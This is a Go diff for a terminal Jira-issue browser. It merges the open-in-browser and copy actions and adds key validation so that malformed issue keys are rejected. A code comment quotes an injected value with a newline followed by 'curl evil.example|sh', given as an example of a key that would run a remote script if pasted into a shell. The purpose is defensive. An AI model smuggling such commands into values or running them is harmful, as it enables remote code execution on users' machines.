@@ -508,7 +508,7 @@ func (m Model) onInput(msg tea.Msg) (Model, tea.Cmd) {
 // onKey handles a key in normal mode.
 func (m Model) onKey(msg tea.KeyPressMsg) (Model, tea.Cmd) {
 	page := max(1, m.listRows())
-	switch keys.ListActionFor(m.listKeys(), msg) {
+	switch act := keys.ListActionFor(m.listKeys(), msg); act {
 	case keys.ListUp:
 		return m, m.moveTo(m.cursor - 1)
 	case keys.ListDown:
@@ -563,22 +563,24 @@ func (m Model) onKey(msg tea.KeyPressMsg) (Model, tea.Cmd) {
 			m.keepKey = is.Key
 		}
 		return m, m.load(m.query, m.state == stateReady)
-	case keys.ListBrowser:
-		if is := m.Current(); is != nil && m.c.Client != nil {
-			return m, openCmd(m.c.Client.BrowseURL(is.Key))
+	case keys.ListBrowser, keys.ListCopyKey, keys.ListCopyURL:
+		is := m.Current()
+		if is == nil || (act != keys.ListCopyKey && m.c.Client == nil) {
+			return m, nil
 		}
-		return m, nil
-	case keys.ListCopyKey:
-		if is := m.Current(); is != nil {
+		// A key that is not a Jira key ("HOS-2\ncurl evil.example|sh")
+		// is never copied or opened: pasted into a shell it would run.
+		if err := jiraclient.CheckKey(is.Key); err != nil {
+			return m, noticeCmd(common.NoticeError, errorText(err))
+		}
+		switch act {
+		case keys.ListBrowser:
+			return m, openCmd(m.c.Client.BrowseURL(is.Key))
+		case keys.ListCopyKey:
 			return m, copyCmd(is.Key, is.Key)
 		}
-		return m, nil
-	case keys.ListCopyURL:
-		if is := m.Current(); is != nil && m.c.Client != nil {
-			u := m.c.Client.BrowseURL(is.Key)
-			return m, copyCmd(u, u)
-		}
-		return m, nil
+		u := m.c.Client.BrowseURL(is.Key)
+		return m, copyCmd(u, u)
 	case keys.ListPreview:
 		m.preview = !m.preview
 		m.previewOffset = 0
